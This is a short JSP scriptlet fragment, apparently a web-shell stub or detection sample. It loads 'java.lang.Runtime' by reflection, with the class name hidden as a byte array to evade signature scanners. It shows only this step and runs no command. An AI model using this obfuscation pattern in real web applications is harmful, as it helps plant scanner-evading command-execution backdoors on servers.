<%
Class r = Class.forName(new String(new byte[] {106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101}));
%>
